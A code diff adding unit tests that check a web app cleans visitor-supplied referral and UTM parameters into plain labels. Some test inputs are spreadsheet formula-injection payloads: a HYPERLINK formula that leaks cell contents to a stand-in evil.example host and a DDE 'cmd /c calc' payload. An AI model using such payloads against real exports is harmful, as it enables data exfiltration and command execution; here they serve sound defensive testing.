@@ -63,3 +63,42 @@ describe('the arrival kept for an application', () => {
     expect(arrivalSource(later(1))).toEqual({});
   });
 });
+
+// Only plain labels reach the server (docs/decisions/0043): a value the visitor never typed is cleaned, so
+// their application is never refused for it.
+describe('a source that is not a plain label', () => {
+  it('is cleaned on arrival: accents dropped, other characters a space, nothing before a letter or digit', () => {
+    expect(
+      sourceOfArrival(
+        `${SITE}/?ref=${encodeURIComponent('=hyperlink("http://evil.example/?leak="&a2,"open")')}`,
+        '',
+      ),
+    ).toEqual({ source: 'hyperlink http evil.example leak a2 open' });
+    expect(
+      sourceOfArrival(
+        `${SITE}/?utm_source=${encodeURIComponent("+cmd|' /c calc'!a0")}&utm_medium=@sum(1)&utm_campaign=Crème%09Brûlée`,
+        '',
+      ),
+    ).toEqual({ source: 'cmd c calc a0', sourceMedium: 'sum 1', sourceCampaign: 'creme brulee' });
+  });
+
+  it('is nothing when no letter or digit is left of it, so the linking site counts', () => {
+    expect(sourceOfArrival(`${SITE}/?ref=${encodeURIComponent('=-+@')}`, 'https://www.google.com/')).toEqual({
+      source: 'google.com',
+    });
+  });
+
+  it('is cleaned when read back from an arrival kept before, or dropped when nothing plain is left', () => {
+    const keep = (stored: object) =>
+      localStorage.setItem('meera.arrivalSource', JSON.stringify({ ...stored, at: start.toISOString() }));
+    keep({ source: '=hyperlink("http://evil.example")', sourceMedium: '-2+3', sourceCampaign: '@' });
+    expect(arrivalSource(later(1))).toEqual({ source: 'hyperlink http evil.example', sourceMedium: '2 3' });
+    keep({ source: '=()', sourceMedium: 'social' });
+    expect(arrivalSource(later(1))).toEqual({});
+    keep({ source: 42 });
+    expect(arrivalSource(later(1))).toEqual({});
+    // An arrival that was nothing plain does not hold the place of the next one.
+    noteArrival(`${SITE}/?ref=linkedin`, '', later(2));
+    expect(arrivalSource(later(2))).toEqual({ source: 'linkedin' });
+  });
+});
